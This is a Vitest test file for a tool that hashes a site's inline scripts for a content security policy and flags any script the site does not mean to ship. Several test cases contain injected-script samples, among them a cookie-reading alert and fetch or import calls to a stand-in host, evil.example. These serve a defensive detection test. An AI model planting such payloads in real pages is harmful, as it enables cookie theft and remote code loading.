// @vitest-environment node
import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { consentRevealScript } from '@/lib/consent'
import { holdActionsScript } from '@/lib/loading/held-actions'
import { loaderScript } from '../../src/lib/loading/after-paint.mjs'
import { inlineScriptHashes } from './inline-scripts.mjs'
import { withPageProblemRecorder } from './page-problems.mjs'

const hash = (body) => `'sha256-${createHash('sha256').update(body, 'utf8').digest('base64')}'`
// As ScriptOnce writes them (@tanstack/react-router).
const held = `${holdActionsScript()};document.currentScript.remove()`
const consent = `${consentRevealScript};document.currentScript.remove()`
// Start's first stream part, with a router state as a page carries it.
const startState = `(self.$R=self.$R||{})["tsr"]=[];self.$_TSR={h(){this.hydrated=!0,this.c()},e(){this.streamEnded=!0,this.c()},c(){this.hydrated&&this.streamEnded&&(delete self.$_TSR,delete self.$R.tsr)},p(e){this.initialized?e():this.buffer.push(e)},buffer:[]};$_TSR.router=($R=>$R[0]={matches:$R[1]=[$R[2]={i:"__root__#",u:1795791401826,s:"success",ssr:!0}]})($R["tsr"]);$_TSR.e();{let s=document.currentScript,p;while((p=s.previousElementSibling)&&p.hasAttribute('data-tsr-stream-part'))p.remove();s.remove()}`
const boundary = 'document.currentScript.remove();/*$tsr-stream-boundary*/'

/** A page as the build writes it, with `extra` before </body>. */
function page(extra = '', { loader = loaderScript, state = startState } = {}) {
  return [
    `<html><head><script>${held}</script><script type="application/ld+json">{"@context":"https://schema.org"}</script></head><body>`,
    `<script>${consent}</script>`,
    `<script data-tsr-stream-part="">${state}</script>`,
    `<script data-modulepreload="/assets/index-a1.js /assets/faq-b2.js">${loader}</script>`,
    `<script type="module" async src="/assets/index-a1.js"></script>`,
    `<script>${boundary}</script>`,
    extra,
    '</body></html>',
  ].join('')
}

test("hashes each inline script the site ships, and nothing that does not run or isn't inline", () => {
  const state2 = startState.replace('1795791401826', '1795791409999')
  const { hashes, problems } = inlineScriptHashes([
    { page: 'index.html', html: page() },
    { page: 'faq.html', html: page('', { state: state2 }) },
  ])
  expect(problems).toEqual([])
  expect(hashes).toEqual(
    [held, consent, startState, state2, loaderScript, boundary].map(hash).sort(),
  )
})

test.each([
  [
    'a script in the content',
    '<script>alert(document.cookie)</script>',
    '<script>"alert(document.cookie)"',
  ],
  [
    'a script dressed as the after-paint loader',
    '<script data-modulepreload="/x.js">fetch("//evil.example")</script>',
    '<script data-modulepreload="/x.js">"fetch(\\"//evil.example\\")"',
  ],
  [
    "a script dressed as Start's boundary",
    `<script>${boundary}alert(1)</script>`,
    `<script>"${boundary}alert(1)"`,
  ],
  [
    'a module script',
    '<script type="module">import("//evil.example/x.js")</script>',
    '<script type="module">',
  ],
])('stops at %s, naming the page and the script', (_, extra, named) => {
  const { problems } = inlineScriptHashes([{ page: 'faq.html', html: page(extra) }])
  expect(problems).toHaveLength(1)
  expect(problems[0]).toContain('faq.html: an inline script the site does not mean to ship: ')
  expect(problems[0]).toContain(named)
})

test('stops at a known script written twice on a page, or differing between pages', () => {
  expect(
    inlineScriptHashes([{ page: 'a.html', html: page(`<script>${consent}</script>`) }]).problems,
  ).toEqual(["a.html: the consent banner's reveal script (src/lib/consent.ts) appears twice"])
  // Same beginning and end, a different middle: only one text of the site's own can be right.
  const changed = page().replace(
    held,
    held.replace('(function keepDrafts() {', '(function keepDrafts() {fetch("//evil.example");'),
  )
  expect(
    inlineScriptHashes([
      { page: 'a.html', html: page() },
      { page: 'b.html', html: changed },
    ]).problems,
  ).toEqual([
    'the held-actions script (src/lib/loading/held-actions.ts) differs between pages (2 versions)',
  ])
})

test("the page-problem recorder is allowed in the test build's loader only", () => {
  const recorded = /<script data-modulepreload="[^"]*">([\s\S]*?)<\/script>/.exec(
    withPageProblemRecorder(page()),
  )[1]
  const html = page('', { loader: recorded })
  expect(
    inlineScriptHashes([{ page: 'a.html', html }], { recordPageProblems: true }).problems,
  ).toEqual([])
  expect(inlineScriptHashes([{ page: 'a.html', html }]).problems).toHaveLength(1)
})
